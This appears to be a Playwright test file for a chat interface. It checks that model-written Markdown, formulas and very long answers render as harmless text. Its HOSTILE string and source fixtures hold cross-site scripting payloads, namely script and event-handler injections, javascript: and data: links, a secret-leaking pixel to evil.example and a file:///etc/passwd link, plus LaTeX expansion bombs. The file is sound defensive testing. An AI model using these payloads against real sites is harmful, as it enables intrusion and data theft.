"""What a model writes stays text: hostile Markdown, formulas and sizes on the chat page, in a real Chromium."""

import time
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser import OpenPage
from tests.page_server import ORIGIN, SOURCES, PageServer, Script, answered, closing, delta, opening, whole

pytestmark = pytest.mark.browser

HOSTILE = r"""
<script>hacked()</script> <img src=x onerror=hacked()> <svg onload=hacked()> <style>body{display:none}</style>
<iframe src="https://evil.example"></iframe><form action="https://evil.example">
<input autofocus onfocus=hacked()></form>
<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example">

[a](javascript:hacked()) [b](JaVaScRiPt&colon;hacked()) [c](data:text/html,<script>hacked()</script>) [d](vbscript:x)
[e](https://evil.example/steal?q=1 "title\" onmouseover=hacked()") <https://evil.example/auto> [f](//evil.example)
[g](https://book.example@evil.example/) [h](https://book.example.evil.example/) [i](../relative) [j][ref] [1](https://evil.example/one)
[the book](https://book.example/docs/fine) [path](/docs/also-fine) [k](file:///etc/passwd) [l](https://evil.example/[1])

[ref]: javascript:hacked()

![pixel](https://evil.example/pixel.gif?secret) ![x" onerror="hacked()](https://evil.example/y.png) ![map](https://book.example/img/map.png)

```"><script>hacked()</script>
<script>hacked()</script>
```

```html
<img src=x onerror=hacked()><script>hacked()</script>
```

$\href{javascript:hacked()}{x}$ $\url{javascript:hacked()}$ $\includegraphics{https://evil.example/z.png}$
$\htmlStyle{position:fixed;inset:0}{x}$ $\htmlClass{skip}{x}$ $\htmlData{x=y}{x}$ $\text{<img src=x onerror=hacked()>}$
$$\text{</math><script>hacked()</script>}$$

| <img src=x onerror=hacked()> | b |
|:-:|--:|
| `<script>hacked()</script>` | [z](javascript:hacked()) |
"""

LOOK = """() => ({
  forbidden: [...document.querySelectorAll(
    ".text :is(script, style, img, svg, iframe, form, input, base, meta, link, object, embed, video, audio, template)")]
    .map((node) => node.outerHTML),
  handlers: [...document.querySelectorAll(".text *")].filter((node) => [...node.attributes]
    .some(({ name }) => name.startsWith("on") || ["style", "src", "srcset", "id", "name", "action", "xlink:href"]
    .includes(name))).map((node) => node.outerHTML),
  links: [...document.querySelectorAll(".turn a")].map((node) => node.href.split(":~:")[0]),
  hacked: window.hackedBy ?? 0,
})"""


def watched(open_page: OpenPage, server: PageServer) -> tuple[Page, list[str]]:
    page = open_page(server.address)
    page.evaluate("() => { window.hacked = () => { window.hackedBy = (window.hackedBy ?? 0) + 1; }; }")
    elsewhere: list[str] = []
    page.on(
        "request", lambda request: None if request.url.startswith(server.address) else elsewhere.append(request.url)
    )
    return page, elsewhere


@pytest.mark.parametrize("size", [pytest.param(1, marks=pytest.mark.smoke), 7, 10_000])
def test_hostile_markdown_stays_text(server: PageServer, open_page: OpenPage, size: int) -> None:
    page, elsewhere = watched(open_page, server)
    text = HOSTILE if size > 1 else HOSTILE[:1500]
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    answered(page, server, whole(*pieces))
    found: dict[str, Any] = page.evaluate(LOOK)
    assert found["forbidden"] == []
    assert found["handlers"] == []
    assert found["hacked"] == 0
    assert elsewhere == []
    allowed = {source["url"] for source in SOURCES} | {
        f"{ORIGIN}{path}" for path in ("/docs/fine", "/docs/also-fine", "/img/map.png")
    }
    assert set() < set(found["links"]) <= allowed
    expect(page.locator(".text")).to_contain_text("<script>hacked()</script>")
    expect(page.locator(".text")).to_contain_text("e (https://evil.example/steal?q=1)")


def test_hostile_sources_stay_text(server: PageServer, open_page: OpenPage) -> None:
    page, elsewhere = watched(open_page, server)
    sources = [
        SOURCES[0]
        | {"url": "javascript:hacked()", "title": "<img src=x onerror=hacked()>", "heading_path": ["<b>x</b>"]},
        SOURCES[1] | {"url": "data:text/html,<script>hacked()</script>", "text": HOSTILE},
        SOURCES[2] | {"url": 'https://book.example/" onclick="hacked()', "heading_path": []},
    ]
    answered(page, server, whole("One [1], two [2], three [3].", sources=sources))
    for summary in page.get_by_text("Passage", exact=True).all():
        summary.click()
    expect(page.locator(".text.quoted").nth(1)).to_contain_text("<script>hacked()</script>")
    found: dict[str, Any] = page.evaluate(LOOK)
    assert found["links"]
    assert found["forbidden"] == []
    assert found["handlers"] == []
    assert found["hacked"] == 0
    assert elsewhere == []
    assert all(link.startswith("https://book.example/") for link in found["links"])


BOMBS = [
    r"\def\a#1{\a{#1#1}}\a{x}",
    r"\newcommand{\a}{\a\a}\a",
    r"\gdef\x{\x\x}\x",
    "x" + "^{x" * 900 + "}" * 900,
    r"\sqrt" * 590 + "x",
    "{" * 1400 + "x" + "}" * 1400,
    r"\begin{array}{" + "c" * 1500 + "}x\\end{array}",
    r"\left(" * 300 + r"\right)" * 300,
    r"\rule{90000em}{90000em}",
    r"\kern-90000em\raisebox{90000em}{x}",
    "x" * 5_000,
    r"\frac{",
    r"\undefined",
]


def test_formulas_that_would_never_end_are_shown_as_their_source(server: PageServer, open_page: OpenPage) -> None:
    page, _ = watched(open_page, server)
    answered(
        page, server, whole("A $x^2$ good one.\n\n", *(f"$${bomb}$$\n\nand ${bomb}$\n\n" for bomb in BOMBS), "The end.")
    )
    expect(page.locator(".text math").first).to_be_visible()
    expect(page.locator(".text > p").last).to_have_text("The end.")
    assert page.locator(".text math merror").count() == 0
    box = page.locator(".text").bounding_box()
    assert box
    assert box["height"] < 60_000
    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")


# Notes how long the page was busy at a stretch.
LONG_TASKS = """() => {
  window.longTasks = [];
  const noted = (list) => list.getEntries().forEach((entry) => window.longTasks.push(entry.duration));
  new PerformanceObserver(noted).observe({type: 'longtask'});
}"""


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("word " * 300_000, id="one paragraph of 1.5 MB"),
        pytest.param("- item [1]\n" * 60_000, id="60,000 items"),
        pytest.param("# H\n\n" * 60_000, id="60,000 headings"),
        pytest.param("```python\n" + "x = 1\n" * 60_000, id="a listing that never closes"),
        pytest.param(">" * 60_000, id="60,000 quotations in one another"),
        pytest.param("[" * 60_000, id="60,000 brackets"),
        pytest.param("**a" * 40_000, id="40,000 openings of emphasis"),
        pytest.param("$" * 60_000, id="60,000 dollars"),
        pytest.param("x" * 400_000, id="one word of 400 kB"),
        pytest.param("`a` " * 20_000, id="20,000 spans of code in a paragraph"),
        pytest.param("[1] " * 20_000, id="20,000 citations in a paragraph"),
        pytest.param("$x$ " * 7_000, id="7,000 formulas in a paragraph"),
    ],
)
def test_a_huge_answer_leaves_the_page_alive(server: PageServer, open_page: OpenPage, text: str) -> None:
    page, _ = watched(open_page, server)
    size = max(1, len(text) // 100)
    deltas = [delta(text[at : at + size]) for at in range(0, len(text), size)]
    page.evaluate(LONG_TASKS)
    started = time.monotonic()
    answered(page, server, Script([opening(), *deltas, closing()]))
    assert time.monotonic() - started < 25
    page.wait_for_timeout(300)  # the last of them is noted after its end
    longest = page.evaluate("() => Math.max(0, ...window.longTasks)")
    assert longest < 10_000  # milliseconds in which nothing can be pressed
    if len(text) > 200_000:
        expect(page.locator(".notice")).to_contain_text("longer than can be shown here")
    answered(page, server, whole("Still here."), "And now?")
    expect(page.locator(".text").last).to_have_text("Still here.")
    assert page.evaluate("() => document.documentElement.scrollWidth <= innerWidth")
